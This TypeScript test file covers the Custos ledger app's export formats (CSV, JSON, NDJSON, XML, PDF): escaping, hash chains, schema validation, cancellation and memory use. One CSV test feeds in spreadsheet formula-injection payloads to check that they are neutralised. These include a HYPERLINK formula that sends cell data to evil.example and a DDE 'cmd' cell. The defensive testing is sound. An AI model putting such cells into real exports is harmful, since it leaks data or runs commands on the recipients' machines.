import { execFileSync, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { createReadStream, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import type { LedgerEvent, Outcome } from '../../shared/ledger-types.js';
import { ZERO_HASH } from '../../shared/ledger-types.js';
import { isCustosError } from '../../electron/core/errors.js';
import { canonicalize } from '../../electron/core/ledger/canonicalize.js';
import { eventHash } from '../../electron/core/ledger/jcs.js';
import { writeExport, type ExportMeta } from '../../electron/core/exports/formats/index.js';
import { csvLine } from '../../electron/core/exports/formats/csv.js';
import { canonicalEventLine } from '../../electron/core/exports/formats/ndjson.js';
import { withoutLayoutTables } from '../../electron/core/pdf/sfnt.js';

const XSD = resolve('resources/schemas/custos-events.xsd');
const dir = mkdtempSync(join(tmpdir(), 'custos-export-formats-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let fileNo = 0;
const out = (ext: string): string => join(dir, `export-${++fileNo}.${ext}`);

const META: ExportMeta = {
  title: 'Disclosure log, spring term',
  workspaceName: 'Lincoln High Records',
  workspaceId: 'ws-7f3a',
  generatedAt: '2025-03-01T10:00:00.000Z',
  requestedBy: 'officer.kim',
  approvedBy: 'counsel.ortiz',
  filters: { from: '2025-01-01', to: '2025-02-28', action: 'disclosure.*' },
  checkpoint: { size: 1234, root: 'ab'.repeat(32), key_id: 'cd'.repeat(32), signature: 'c2lnbmF0dXJl' },
};

/** A valid hash chain of events, with values chosen to stress quoting and escaping. */
function chain(raw: Omit<LedgerEvent, 'seq' | 'prev_hash' | 'hash'>[]): LedgerEvent[] {
  const list: LedgerEvent[] = [];
  let prev = ZERO_HASH;
  raw.forEach((r, i) => {
    const body = { seq: i + 1, ...r, prev_hash: prev };
    const e = { ...body, hash: eventHash(body) };
    list.push(e);
    prev = e.hash;
  });
  return list;
}

function plain(i: number, extra: Partial<LedgerEvent> = {}): Omit<LedgerEvent, 'seq' | 'prev_hash' | 'hash'> {
  const outcomes: Outcome[] = ['success', 'denied', 'failure'];
  return {
    ts: new Date(Date.UTC(2025, 0, 1) + i * 60_000).toISOString(),
    actor: `user${i % 7}`,
    action: 'evidence.custody.transfer',
    resource_type: 'evidence',
    resource_id: `EV-${1000 + i}`,
    outcome: outcomes[i % 3]!,
    details: { from: 'locker 3', to: 'lab', n: i },
    ...extra,
  };
}

const TRICKY = chain([
  plain(0),
  plain(1, { actor: 'O\'Brien, "Pat"', resource_id: 'line1\nline2', details: { note: 'a,b "c"\r\nd', emoji: 'ü ✓ 😀' } }),
  plain(2, { actor: 'amp &amp; <tag> \'apos\' "quot"', resource_id: 'tab\there\r\nCRLF', details: { xml: '</details><x>&lt;', ctrl: '\u0001\u0000' } }),
  plain(3, { actor: 'bell\u0007 and lone \uD800 surrogate', details: {} }),
  plain(4, { details: { nested: { list: [1, 'two', { three: null }], flag: true } } }),
]);

function utf8(s: string): string {
  return Buffer.from(s, 'utf8').toString('utf8');
}

async function sha256Stream(path: string): Promise<string> {
  const h = createHash('sha256');
  for await (const chunk of createReadStream(path)) h.update(chunk as Buffer);
  return h.digest('hex');
}

async function countByte(path: string, byte: number): Promise<number> {
  let count = 0;
  for await (const chunk of createReadStream(path)) {
    const buf = chunk as Buffer;
    for (let i = buf.indexOf(byte); i !== -1; i = buf.indexOf(byte, i + 1)) count++;
  }
  return count;
}

// A full garbage collection on demand, so that heapUsed counts live objects only.
setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;

function liveHeap(): number {
  collectGarbage();
  return process.memoryUsage().heapUsed;
}

function sha256File(path: string): string {
  return createHash('sha256').update(readFileSync(path)).digest('hex');
}

function pythonCsv(path: string): string[][] {
  const script = 'import csv,json,sys\nwith open(sys.argv[1], newline="", encoding="utf-8") as f:\n  print(json.dumps(list(csv.reader(f, strict=True))))';
  return JSON.parse(execFileSync('python3', ['-c', script, path], { encoding: 'utf8' })) as string[][];
}

function noLeftovers(path: string): void {
  expect(existsSync(path)).toBe(false);
  // The partial file has a fresh hidden name beside the output: none may stay.
  if (existsSync(dirname(path))) expect(readdirSync(dirname(path)).filter((f) => f.endsWith('.partial'))).toEqual([]);
}

// Characters that stress quoting, escaping and encoding, among ordinary ones.
const NASTY_CHAR = fc.oneof(
  fc.constantFrom(',', '"', '\r', '\n', '\t', '=', '+', '-', '@', "'", '<', '&', '\u0000', '\uD800', '\uDC00', '😀', 'é'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
);
const nastyString = fc.string({ unit: NASTY_CHAR, maxLength: 12 });

describe('serialisation against reference implementations', () => {
  it('CSV quoting is byte for byte what csv-stringify writes for RFC 4180', () => {
    fc.assert(
      fc.property(fc.array(fc.array(nastyString, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 4 }), (records) => {
        const reference = stringify(records, { record_delimiter: '\r\n', quoted_match: /[\r\n]/ });
        expect(records.map(csvLine).join('')).toBe(reference);
      }),
      { numRuns: 500 },
    );
  });

  it('an NDJSON line is exactly the RFC 8785 canonical form of the event', () => {
    const event = fc.record({
      seq: fc.integer({ min: 1, max: Number.MAX_SAFE_INTEGER }),
      ts: nastyString,
      actor: nastyString,
      action: nastyString,
      resource_type: nastyString,
      resource_id: nastyString,
      outcome: fc.constantFrom('success', 'denied', 'failure') as fc.Arbitrary<Outcome>,
      details: fc.dictionary(nastyString, fc.jsonValue()),
      prev_hash: nastyString,
      hash: nastyString,
    });
    fc.assert(
      fc.property(event, (e) => {
        expect(canonicalEventLine(e)).toBe(canonicalize(e));
      }),
      { numRuns: 500 },
    );
  });
});

describe('CSV export', () => {
  it('reads back with a standard RFC 4180 parser, field for field', async () => {
    const path = out('csv');
    const res = await writeExport('csv', TRICKY, path, META);
    const bytes = readFileSync(path);
    expect(res).toEqual({ rows: TRICKY.length, bytes: bytes.length, sha256: sha256File(path) });
    // UTF-8 without BOM, CRLF record ends.
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(bytes.toString('utf8').startsWith('seq,ts,actor,action,resource_type,resource_id,outcome,details,prev_hash,hash\r\n')).toBe(true);
    expect(bytes.toString('utf8').endsWith('\r\n')).toBe(true);

    const rows = pythonCsv(path);
    expect(rows).toHaveLength(TRICKY.length + 1);
    TRICKY.forEach((e, i) => {
      const r = rows[i + 1]!;
      // UTF-8 cannot carry a lone surrogate; it is written as U+FFFD (the only change made).
      expect(r).toEqual([String(e.seq), e.ts, utf8(e.actor), e.action, e.resource_type, e.resource_id, e.outcome, JSON.stringify(e.details), e.prev_hash, e.hash]);
      expect(JSON.parse(r[7]!)).toEqual(e.details);
    });
  });

  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-1+2', '@SUM(A1:A9)', '\t=1+1', '\r=2+2'];
    const events = chain(attacks.map((a, i) => plain(i, { actor: a, resource_id: a, details: { v: a } })));
    const path = out('csv');
    await writeExport('csv', events, path, META);
    const rows = pythonCsv(path).slice(1);
    rows.forEach((r, i) => {
      expect(r[2]).toBe(`'${attacks[i]}`);
      expect(r[5]).toBe(`'${attacks[i]}`);
      // The details cell starts with "{" and carries the value as JSON, never as a formula.
      expect(r[7]!.startsWith('{')).toBe(true);
    });
    // Harmless values are left alone.
    const safe = chain([plain(0, { actor: 'a=b', resource_id: 'x-1' })]);
    const p2 = out('csv');
    await writeExport('csv', safe, p2, META);
    expect(pythonCsv(p2)[1]!.slice(2, 6)).toEqual(['a=b', 'evidence.custody.transfer', 'evidence', 'x-1']);
  });
});

describe('JSON and NDJSON exports', () => {
  it('JSON is one document with format, snake_case meta and every event', async () => {
    const path = out('json');
    await writeExport('json', TRICKY, path, META);
    const doc = JSON.parse(readFileSync(path, 'utf8')) as { format: string; meta: Record<string, unknown>; events: LedgerEvent[] };
    expect(doc.format).toBe('custos-export/1');
    expect(doc.meta).toEqual({
      title: META.title,
      workspace_id: META.workspaceId,
      workspace_name: META.workspaceName,
      generated_at: META.generatedAt,
      requested_by: META.requestedBy,
      approved_by: META.approvedBy,
      filters: META.filters,
      checkpoint: META.checkpoint,
    });
    expect(doc.events).toEqual(TRICKY);
  });

  it('JSON of no events is still a valid document', async () => {
    const path = out('json');
    const res = await writeExport('json', [], path, META);
    expect(res.rows).toBe(0);
    expect((JSON.parse(readFileSync(path, 'utf8')) as { events: unknown[] }).events).toEqual([]);
  });

  it('NDJSON lines are canonical events whose hash re-computes', async () => {
    const path = out('ndjson');
    await writeExport('ndjson', TRICKY, path, META);
    const text = readFileSync(path, 'utf8');
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.slice(0, -1).split('\n');
    expect(lines).toHaveLength(TRICKY.length);
    lines.forEach((line, i) => {
      const e = JSON.parse(line) as LedgerEvent;
      expect(e).toEqual(TRICKY[i]);
      expect(line).toBe(canonicalize(e));
      expect(eventHash(e)).toBe(e.hash);
    });
  });
});

describe('XML export', () => {
  function xpath(path: string, expr: string): string {
    // xmllint ends its answer with one newline of its own.
    return execFileSync('xmllint', ['--xpath', expr, path], { encoding: 'utf8' }).replace(/\n$/, '');
  }

  it('validates against resources/schemas/custos-events.xsd and reads back exactly', async () => {
    const path = out('xml');
    await writeExport('xml', TRICKY, path, META);
    const lint = spawnSync('xmllint', ['--noout', '--schema', XSD, path], { encoding: 'utf8' });
    expect(lint.stderr).toContain('validates');
    expect(lint.status).toBe(0);

    expect(xpath(path, 'string(/custos-export/@format)')).toBe('custos-export/1');
    expect(xpath(path, 'count(/custos-export/events/event)')).toBe(String(TRICKY.length));
    expect(xpath(path, 'string(/custos-export/meta/workspace/@id)')).toBe(META.workspaceId);
    expect(JSON.parse(xpath(path, 'string(/custos-export/meta/filters)'))).toEqual(META.filters);
    for (const i of [1, 2]) {
      const e = TRICKY[i]!;
      const ev = `/custos-export/events/event[${i + 1}]`;
      expect(xpath(path, `string(${ev}/@actor)`)).toBe(e.actor);
      expect(xpath(path, `string(${ev}/@resource_id)`)).toBe(e.resource_id);
      expect(xpath(path, `string(${ev}/@hash)`)).toBe(e.hash);
      expect(JSON.parse(xpath(path, `string(${ev}/details)`))).toEqual(e.details);
    }
    // Characters XML 1.0 forbids cannot travel; they show as U+FFFD instead of breaking the file.
    expect(xpath(path, 'string(/custos-export/events/event[4]/@actor)')).toBe('bell\uFFFD and lone \uFFFD surrogate');
  });

  it('a schema-invalid document is rejected by the same check (the check can fail)', () => {
    const bad = join(dir, 'bad.xml');
    execFileSync('sh', ['-c', `printf '<custos-export format="custos-export/1"><events/></custos-export>' > "${bad}"`]);
    expect(spawnSync('xmllint', ['--noout', '--schema', XSD, bad]).status).not.toBe(0);
  });
});

describe('PDF export', () => {
  const many = chain(
    Array.from({ length: 240 }, (_, i) =>
      plain(i, i === 7 ? { resource_id: `long-${'x'.repeat(120)}`, actor: 'Zoë Ångström' } : {}),
    ),
  );

  it('has a title page, a paginated table, page numbers and embedded fonts', async () => {
    const path = out('pdf');
    const res = await writeExport('pdf', many, path, META);
    expect(res.rows).toBe(240);
    expect(readFileSync(path).subarray(0, 5).toString()).toBe('%PDF-');
    expect(spawnSync('qpdf', ['--check', path]).status).toBe(0);

    const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' });
    expect(text).toContain(META.title);
    expect(text).toContain(META.workspaceName);
    expect(text).toContain('counsel.ortiz');
    expect(text).toContain(META.checkpoint!.root);
    expect(text).toContain('SHA-256 of this PDF file is recorded in the Custos ledger');
    expect(text).toContain('Zoë Ångström');
    expect(text).toMatch(/Page 1 of (\d+)/);
    const pages = Number(/Page 1 of (\d+)/.exec(text)![1]);
    expect(pages).toBeGreaterThan(3);
    expect(text).toContain(`Page ${pages} of ${pages}`);
    for (const seq of ['1', '120', '240']) expect(text).toMatch(new RegExp(`^\\s*${seq}\\s+\\d{1,2} (Jan|Feb) 2025, \\d\\d:\\d\\d:\\d\\d UTC`, 'm'));

    // The header row is repeated on every page of the table.
    const page3 = execFileSync('pdftotext', ['-f', '3', '-l', '3', '-layout', path, '-'], { encoding: 'utf8' });
    expect(page3).toMatch(/Seq\s+Time\s+Actor\s+Action\s+Resource\s+Outcome/);

    const fonts = execFileSync('pdffonts', [path], { encoding: 'utf8' }).trim().split('\n').slice(2);
    expect(fonts.length).toBeGreaterThan(0);
    for (const line of fonts) expect(line).toMatch(/\s(yes)\s+(yes|no)\s+(yes|no)\s+\d+\s+\d+$/);
  }, 60_000);

  it('measures text with a copy of the font that lacks only the OpenType layout tables', () => {
    const tables = (font: Buffer): Map<string, Buffer> =>
      new Map(
        Array.from({ length: font.readUInt16BE(4) }, (_, i) => {
          const at = 12 + i * 16;
          const offset = font.readUInt32BE(at + 8);
          return [font.toString('latin1', at, at + 4), font.subarray(offset, offset + font.readUInt32BE(at + 12))] as const;
        }),
      );
    const original = readFileSync('resources/fonts/Roboto-Regular.ttf');
    const trimmed = withoutLayoutTables(original);
    const before = tables(original);
    const after = tables(trimmed);
    expect(before.has('GSUB') && before.has('GPOS')).toBe(true);
    expect([...after.keys()]).toEqual([...before.keys()].filter((t) => !['GSUB', 'GPOS', 'GDEF'].includes(t)));
    for (const [tag, data] of after) expect(data.equals(before.get(tag)!)).toBe(true);
    // Binary-search header fields for the new table count (OpenType spec, table directory).
    const n = after.size;
    const searchRange = 2 ** Math.floor(Math.log2(n)) * 16;
    expect([trimmed.readUInt16BE(6), trimmed.readUInt16BE(8), trimmed.readUInt16BE(10)]).toEqual([searchRange, Math.log2(searchRange / 16), n * 16 - searchRange]);
    const notAFont = Buffer.from('not a font at all');
    expect(withoutLayoutTables(notAFont)).toBe(notAFont);
  });

  it('says so when no events matched', async () => {
    const path = out('pdf');
    await writeExport('pdf', [], path, { ...META, filters: {} });
    expect(spawnSync('qpdf', ['--check', path]).status).toBe(0);
    const text = execFileSync('pdftotext', [path, '-'], { encoding: 'utf8' });
    expect(text).toContain('All events (no filters).');
    expect(text).toContain('No events matched the filters.');
    expect(text).toContain('Page 2 of 2');
  }, 30_000);

  it('refuses more rows than the PDF limit, before writing anything', async () => {
    const path = out('pdf');
    const err = await writeExport('pdf', many, path, META, { pdfMaxRows: 100 }).catch((e: unknown) => e);
    expect(isCustosError(err, 'validation')).toBe(true);
    expect((err as Error).message).toBe('A PDF export is limited to 100 events; narrow the filters or choose CSV.');
    noLeftovers(path);
  });
});

describe('writing, cancelling and failing', () => {
  function* lazy(n: number, onRow?: (i: number) => void, noteBytes = 0): Generator<LedgerEvent> {
    for (let i = 1; i <= n; i++) {
      onRow?.(i);
      // A distinct string per row, so that holding the rows would cost memory in proportion.
      const note = noteBytes > 0 ? randomBytes(noteBytes / 2).toString('hex') : undefined;
      yield {
        seq: i,
        ts: new Date(Date.UTC(2025, 0, 1) + i * 1000).toISOString(),
        actor: `user${i % 97}@district.example.edu`,
        action: 'record.view',
        resource_type: 'student',
        resource_id: `stu-${i % 5000}`,
        outcome: 'success',
        details: { purpose: 'legitimate educational interest', term: '2025S', i, ...(note ? { note } : {}) },
        prev_hash: createHash('sha256').update(String(i - 1)).digest('hex'),
        hash: createHash('sha256').update(String(i)).digest('hex'),
      };
    }
  }

  for (const format of ['csv', 'json', 'ndjson', 'xml', 'pdf'] as const) {
    it(`${format}: aborting mid-way leaves no file and throws 'cancelled'`, async () => {
      const path = out(format);
      const ac = new AbortController();
      const err = await writeExport(format, lazy(200_000, (i) => i === 3000 && ac.abort()), path, META, { signal: ac.signal }).catch(
        (e: unknown) => e,
      );
      expect(isCustosError(err, 'cancelled')).toBe(true);
      noLeftovers(path);
    });
  }

  it('an already-aborted signal writes nothing', async () => {
    const path = out('csv');
    const ac = new AbortController();
    ac.abort();
    const err = await writeExport('csv', lazy(10), path, META, { signal: ac.signal }).catch((e: unknown) => e);
    expect(isCustosError(err, 'cancelled')).toBe(true);
    noLeftovers(path);
  });

  it('a failing source leaves no file and throws \'failure\'', async () => {
    const path = out('xml');
    function* broken(): Generator<LedgerEvent> {
      yield* lazy(5000);
      throw new Error('database went away');
    }
    const err = await writeExport('xml', broken(), path, META).catch((e: unknown) => e);
    expect(isCustosError(err, 'failure')).toBe(true);
    // The core's words, not the unexpected error's text (errors.ts failureText).
    expect((err as Error).message).toBe('The export could not be written (an internal error); no file was left behind.');
    noLeftovers(path);
  });

  it('an unwritable destination throws \'failure\' and leaves nothing', async () => {
    const path = join(dir, 'no-such-folder', 'x.csv');
    const err = await writeExport('csv', lazy(10), path, META).catch((e: unknown) => e);
    expect(isCustosError(err, 'failure')).toBe(true);
    noLeftovers(path);
  });

  it('an unknown format is a validation error', async () => {
    const err = await writeExport('docx' as 'csv', lazy(1), out('docx'), META).catch((e: unknown) => e);
    expect(isCustosError(err, 'validation')).toBe(true);
  });

  it('streams 200,000 rows of CSV with flat memory, reporting progress and the true hash', async () => {
    const path = out('csv');
    const n = 200_000;
    // Live memory (heap after a full collection) a quarter of the way in, when the pipeline is
    // at its working size, and at the last row: streaming stays level, holding rows grows
    // with them. RSS alone would mostly show when V8 chose to collect.
    let settled = 0;
    let atEnd = 0;
    const progress: number[] = [];
    const res = await writeExport(
      'csv',
      lazy(n, (i) => {
        if (i === n / 4) settled = liveHeap();
        else if (i === n) atEnd = liveHeap();
      }, 512),
      path,
      META,
      { onProgress: (r) => progress.push(r) },
    );

    expect(res.rows).toBe(n);
    expect(res.sha256).toBe(await sha256Stream(path));
    expect(progress.at(-1)).toBe(n);
    expect(progress.length).toBeGreaterThan(100);
    // Over 100 MB of rows went through; holding them (or the text) would show up here.
    expect(res.bytes).toBeGreaterThan(100 * 1024 * 1024);
    expect(atEnd - settled).toBeLessThan(32 * 1024 * 1024);
    expect(await countByte(path, 0x0a)).toBe(n + 1);
    expect(readdirSync(dir).filter((f) => f.endsWith('.partial'))).toEqual([]);
    rmSync(path);
  }, 120_000);
});
